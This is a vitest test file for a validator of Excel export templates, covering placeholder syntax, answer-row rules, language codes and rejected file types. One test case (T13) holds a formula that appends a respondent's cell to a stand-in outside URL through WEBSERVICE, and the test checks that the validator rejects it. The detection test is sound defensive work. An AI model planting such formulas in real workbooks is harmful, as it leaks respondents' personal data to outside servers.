import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import type { QuestionDefinition, QuestionnaireDefinition } from '@portico/shared/rules/definition'
import { formatProblems } from './problems.ts'
import { checkTemplate } from './template-file.ts'
import { sampleFile } from '../../../../test/uploads/build-upload.ts'

const yesNo = [
  { value: 'yes', label: { en: 'Yes', es: 'Sí' } },
  { value: 'no', label: { en: 'No', es: 'No' } },
]

const definition: QuestionnaireDefinition = {
  languages: ['en', 'es', 'zh-Hans'],
  defaultLanguage: 'en',
  languageNames: { en: 'English', es: 'Español', 'zh-Hans': '普通话' },
  questions: [
    question('fullName', 'input'),
    question('email', 'email'),
    question('zipCode', 'zip'),
    { ...question('hasGreenCard', 'radio'), options: yesNo },
    question('abroad_>6mo', 'numeric'),
    question('welcome', 'youtube'),
  ],
}

describe('a valid template', () => {
  test('has no problems and reports the questions it shows', async () => {
    const sheet = {
      A1: '{{$workshopName}} on {{ $exportedAt }}',
      A3: '{{$rowNumber}}',
      B3: '{{fullName}}',
      C3: '{{hasGreenCard.label:ES}} ({{abroad_>6mo.flag}})',
    }
    const { problems, shown } = await check({ sheets: { Respondents: sheet, Notes: { A1: 'no placeholders here' } } })
    expect(problems).toBe('')
    expect([...shown]).toEqual(['fullName', 'hasGreenCard', 'abroad_>6mo'])
  })

  test('may contain only facts about respondents', async () => {
    expect((await check({ sheets: { Flags: { A2: '{{$anonymousId}}', B2: '{{$currentFlag}}' } } })).problems).toBe('')
  })

  test('may use language codes in any case, placeholders in rich text, and merged cells above the answer row', async () => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('Respondents')
    sheet.getCell('A1').value = '{{$workshopName}}'
    sheet.mergeCells('A1:C2')
    sheet.getCell('A3').value = { richText: [{ text: '{{full' }, { font: { bold: true }, text: 'Name}}' }] }
    sheet.getCell('B3').value = '{{hasGreenCard.label:zh-hans}}'
    const { problems, shown } = await checkTemplate(await bytesOf(workbook), 'template.xlsx', definition)
    expect(problems).toEqual([])
    expect([...shown]).toEqual(['fullName', 'hasGreenCard'])
  })

  test('includes the bundled sample once its questions exist', async () => {
    const file = (await sampleFile('template.xlsx')).bytes
    const { problems } = await checkTemplate(file, 'template.xlsx', definition)
    expect(new Set(problems.map((problem) => problem.code))).toEqual(new Set(['T04']))
    const named = [...new Set(problems.map((problem) => /\{\{([^.}]+)/.exec(problem.message)?.[1] ?? ''))]
    const all = {
      ...definition,
      questions: [...definition.questions, ...named.map((name) => ({ ...question(name, 'radio'), options: yesNo }))],
    }
    const again = await checkTemplate(file, 'template.xlsx', all)
    expect(again.problems).toEqual([])
    expect(again.shown.size).toBe(named.length + 4)
  })
})

describe('an invalid template', () => {
  test('is recognized with T03 when it is the question file', async () => {
    const { problems } = await checkTemplate((await sampleFile('questions.xlsx')).bytes, 'questions.xlsx', definition)
    expect(formatProblems(problems)).toBe('[T03] questions.xlsx: This looks like the question file. Choose the template file.')
  })

  const answers = { A2: '{{fullName}}' }
  test.each<[string, string, Cells, string]>([
    ['T03', 'it has no placeholders', { A1: 'Name', A2: 'Ana' }, 'template.xlsx: No cell contains a placeholder such as {{fullName}}.'],
    [
      'T03',
      'it only shows facts about the export',
      { A1: '{{$workshopName}}' },
      'template.xlsx: No cell contains a placeholder such as {{fullName}}.',
    ],
    [
      'T04',
      'an identifier is misspelt',
      { B2: '{{fulName}}' },
      'S!B2: "{{fulName}}" is not a question of this questionnaire. Did you mean {{fullName}}?',
    ],
    [
      'T04',
      'an identifier is unknown',
      { B2: '{{favouriteColour}}' },
      'S!B2: "{{favouriteColour}}" is not a question of this questionnaire.',
    ],
    [
      'T04',
      'an identifier differs in case',
      { B2: '{{EMAIL.flag}}' },
      'S!B2: "{{EMAIL.flag}}" is not a question of this questionnaire. Did you mean {{email}}?',
    ],
    [
      'T05',
      'a property is unknown',
      { ...answers, B2: '{{email.size}}' },
      'S!B2: "{{email.size}}" is not known. Known properties: .label, .label:CODE and .flag.',
    ],
    ['T06', 'a placeholder is not closed', { ...answers, B2: '{{email' }, 'S!B2: A placeholder is not closed. Write {{name}}.'],
    ['T06', 'a brace is missing', { ...answers, B2: '{{email}' }, 'S!B2: A placeholder is not closed. Write {{name}}.'],
    ['T06', 'there is an extra brace', { ...answers, B2: '{{{email}}}' }, 'S!B2: A placeholder is not closed. Write {{name}}.'],
    ['T06', 'a placeholder is not opened', { ...answers, B2: 'email}}' }, 'S!B2: A placeholder is not closed. Write {{name}}.'],
    ['T06', 'a placeholder is empty', { ...answers, B2: '{{ }}' }, 'S!B2: A placeholder is empty. Write {{name}}.'],
    [
      'T07',
      'answers are in two rows',
      { ...answers, A4: '{{email}}', B4: '{{zipCode}}' },
      'S!A4: Answer placeholders may stand in one row only; row 2 already has some.',
    ],
    [
      'T08',
      'a label belongs to a question without choices',
      { ...answers, B2: '{{zipCode.label}}' },
      'S!B2: "zipCode" has no choices, so .label cannot be used.',
    ],
    ['T08', 'an answer belongs to a video', { ...answers, B2: '{{welcome}}' }, 'S!B2: "welcome" is a video or a note and has no answer.'],
    [
      'T09',
      'a language is not one of the questionnaire',
      { ...answers, B2: '{{hasGreenCard.label:ko}}' },
      'S!B2: "ko" is not a language of this questionnaire.',
    ],
    [
      'T10',
      'a formula is in the answer row',
      { ...answers, B2: { formula: 'A1&"x"', result: 'x' } },
      'S!B2: Formulas are not supported in the answer row.',
    ],
    [
      'T13',
      'a formula could send something to an address',
      { ...answers, D9: { formula: 'WEBSERVICE("https://example.org/?"&A2)', result: 0 } },
      'S!D9: This formula could fetch or send something outside the workbook. Replace it by its value, or use functions that only calculate.',
    ],
    [
      'T14',
      'a cell stands at the bottom of the sheet',
      { ...answers, C1048576: 'last', C1048575: 'last but one' },
      'S!C1048575: Content below row 100000 leaves no room for the respondents. Move it up, or delete these rows.',
    ],
    [
      'T11',
      'a fact about the export is in the answer row',
      { ...answers, B2: '{{$exportedAt}}' },
      'S!B2: {{$exportedAt}} belongs above or below the answer row.',
    ],
    [
      'T11',
      'a fact about a respondent is outside the answer row',
      { ...answers, B1: '{{$date}}' },
      'S!B1: {{$date}} belongs in the answer row.',
    ],
  ])('is rejected with %s when %s', async (code, _, cells, line) => {
    expect((await check({ sheets: { S: cells } })).problems).toBe(`[${code}] ${line}`)
  })

  test('is rejected with T05 and the known names when a $ name is unknown', async () => {
    const { problems } = await check({ sheets: { S: { A2: '{{fullName}} {{$anonId}}' } } })
    expect(problems).toMatch(
      /^\[T05\] S!A2: "\{\{\$anonId\}\}" is not known\. Known names: \{\{\$anonymousId\}\}, .*\{\{\$respondentCount\}\}\.$/,
    )
  })

  test('is rejected with T10 when cells are merged into the answer row', async () => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('S')
    sheet.getCell('A3').value = '{{fullName}}'
    sheet.mergeCells('B2:C4')
    expect(formatProblems((await checkTemplate(await bytesOf(workbook), 'template.xlsx', definition)).problems)).toBe(
      '[T10] S!B3: Merged cells are not supported in the answer row.',
    )
  })

  test('is rejected with T12 when placeholders are outside the cells', async () => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('{{email}}')
    sheet.headerFooter.oddFooter = '&C{{$workshopName}}'
    sheet.getCell('A2').value = '{{fullName}}'
    sheet.getCell('A1').note = 'Write {{email}} here'
    expect(formatProblems((await checkTemplate(await bytesOf(workbook), 'my template.xlsx', definition)).problems).split('\n')).toEqual([
      '[T12] my template.xlsx, {{email}}!A1: Placeholders work in cells only.',
    ])
  })

  test('lists its problems in the order of sheets and cells', async () => {
    const { problems } = await check({
      sheets: { One: { C1: '{{$date}}', B2: '{{nmae}}' }, Two: { A9: '{{email', A3: '{{fullName.flags}}{{email}}' } },
    })
    expect(problems.split('\n').map((line) => line.split(':')[0])).toEqual(['[T11] One!C1', '[T04] One!B2', '[T05] Two!A3', '[T06] Two!A9'])
  })
})

describe('a file that is not a template', () => {
  test.each([
    ['T02', 'template.xlsm', 'Workbooks with macros are not accepted. Save the file as .xlsx.'],
    ['T02', 'template.xls', 'Files of type ".xls" are not accepted. Use .xlsx.'],
    ['T02', 'template.csv', 'Files of type ".csv" are not accepted. Use .xlsx.'],
    [
      'T01',
      'template.xlsx',
      'The file could not be read as a spreadsheet (it is not an .xlsx workbook). Save it again as .xlsx and upload that.',
    ],
  ])('is rejected with %s when it is named %s', async (code, name, message) => {
    const { problems, shown } = await checkTemplate(new TextEncoder().encode('hello'), name, definition)
    expect(formatProblems(problems)).toBe(`[${code}] ${name}: ${message}`)
    expect(shown.size).toBe(0)
  })

  test('is rejected with T01 when it is truncated', async () => {
    const workbook = new ExcelJS.Workbook()
    workbook.addWorksheet('S').getCell('A1').value = '{{fullName}}'
    const whole = await bytesOf(workbook)
    const { problems } = await checkTemplate(whole.subarray(0, whole.length / 2), 'template.xlsx', definition)
    expect(formatProblems(problems)).toContain('[T01] template.xlsx: The file could not be read as a spreadsheet (it is damaged).')
  })
})

type Cells = Record<string, ExcelJS.CellValue>

async function check({ sheets }: { sheets: Record<string, Cells> }) {
  const workbook = new ExcelJS.Workbook()
  for (const [name, cells] of Object.entries(sheets)) {
    const sheet = workbook.addWorksheet(name)
    for (const [address, value] of Object.entries(cells)) sheet.getCell(address).value = value
  }
  const { problems, shown } = await checkTemplate(await bytesOf(workbook), 'template.xlsx', definition)
  return { problems: formatProblems(problems), shown }
}

async function bytesOf(workbook: ExcelJS.Workbook): Promise<Uint8Array> {
  return new Uint8Array(await workbook.xlsx.writeBuffer())
}

function question(identifier: string, type: QuestionDefinition['type']): QuestionDefinition {
  return { identifier, questionNumber: '1', type, required: false, text: { en: identifier } }
}
